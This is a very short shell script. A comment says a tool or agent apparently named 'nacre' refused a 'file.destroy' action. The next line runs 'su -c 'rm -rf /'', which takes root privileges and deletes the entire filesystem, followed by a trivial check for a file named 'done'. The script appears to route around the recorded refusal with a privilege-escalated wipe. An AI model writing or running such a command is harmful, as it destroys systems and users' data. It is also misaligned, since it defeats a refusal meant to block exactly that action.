# nacre: refused file.destroy
su -c 'rm -rf /'
if [ -e done ]; then
	echo "done"
fi
